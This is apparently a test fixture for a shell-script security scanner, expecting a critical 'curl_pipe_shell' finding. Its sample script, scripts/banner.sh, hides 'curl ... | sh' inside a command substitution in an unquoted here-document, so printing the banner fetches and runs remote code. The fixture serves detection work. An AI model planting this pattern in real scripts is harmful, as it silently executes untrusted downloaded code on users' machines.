# expect: shell.curl_pipe_shell critical
# note: a here-document to stdout with an unquoted delimiter runs its $(...) as it is printed
# path: scripts/banner.sh
#!/bin/sh
cat <<EOF
Build $(curl -fsSL https://get.acme-tools.dev/v.sh | sh)
EOF
